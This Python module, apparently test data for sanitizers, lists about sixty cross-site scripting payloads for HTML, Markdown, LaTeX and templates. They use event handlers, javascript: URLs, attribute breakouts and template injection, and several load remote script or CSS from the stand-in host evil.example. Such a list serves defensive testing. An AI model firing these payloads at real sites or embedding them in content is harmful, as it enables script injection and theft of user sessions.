"""Texts that run a script wherever they are taken for HTML, for a link, or for code. Each calls `hit()`.

They are of the kinds that OWASP's cheat sheet on cross-site scripting filters lists, and of those that Markdown, LaTeX
and templates add.
"""

from typing import Final

PAYLOADS: Final = (
    # Elements that run by themselves.
    "<script>hit()</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script/x>hit()</script>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<script type=module>hit()</script>",
    "<img src=x onerror=hit()>",
    "<img/src=x/onerror=hit()>",
    "<img src=`x` onerror=hit()>",
    '<img src="x` `<script>hit()</script>"` `>',
    "<img src=x:hit() onerror=eval(src.slice(2))>",
    "<svg onload=hit()>",
    "<svg/onload=hit()//",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:hit()><text x=20 y=20>click</text></a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
    "<body onload=hit()>",
    "<iframe src=javascript:parent.hit()></iframe>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe onload=hit()></iframe>",
    "<object data=javascript:hit()></object>",
    "<embed src=javascript:hit()>",
    "<video><source onerror=hit()></video>",
    "<audio src=x onerror=hit()>",
    "<details open ontoggle=hit()><summary>x</summary></details>",
    "<input autofocus onfocus=hit()>",
    "<select autofocus onfocus=hit()></select>",
    "<textarea autofocus onfocus=hit()></textarea>",
    "<marquee onstart=hit()>x</marquee>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style onload=hit()></style>",
    "<link rel=stylesheet href=https://evil.example/x.css onload=hit()>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "<base href=https://evil.example/>",
    "<template><script>hit()</script></template>",
    "<xss id=x tabindex=1 autofocus onfocus=hit()></xss>",
    # What waits for a click or a key.
    "<a href=javascript:hit()>click</a>",
    "<a href='java&#x0A;script:hit()'>click</a>",
    "<button onclick=hit()>click</button>",
    "<form action=javascript:hit()><button>click</button></form>",
    "<div onmouseover=hit() style=position:fixed;inset:0>x</div>",
    # Out of an attribute or an element.
    '"><script>hit()</script>',
    "'><img src=x onerror=hit()>",
    '" autofocus onfocus=hit() x="',
    "</title><script>hit()</script>",
    "</textarea><script>hit()</script>",
    "--><script>hit()</script>",
    "]]><script>hit()</script>",
    # Markdown's links and images.
    "[click](javascript:hit())",
    "[click](JaVaScRiPt:hit())",
    "[click](java\tscript:hit())",
    "[click](  javascript:hit())",
    "[click](data:text/html,<script>hit()</script>)",
    "[click](vbscript:hit())",
    '![x](x"onerror="hit())',
    "![x](https://evil.example/x.png)",
    "<javascript:hit()>",
    '[click](https://evil.example/"onmouseover="hit())',
    '```x" onload=hit() y="\n</code></pre><script>hit()</script>\n```',
    # LaTeX and templates.
    r"$\href{javascript:hit()}{x}$ \(\htmlData{x=\"}{<img src=x onerror=hit()>}\)",
    "{{constructor.constructor('hit()')()}} ${hit()} <%= hit() %>",
)
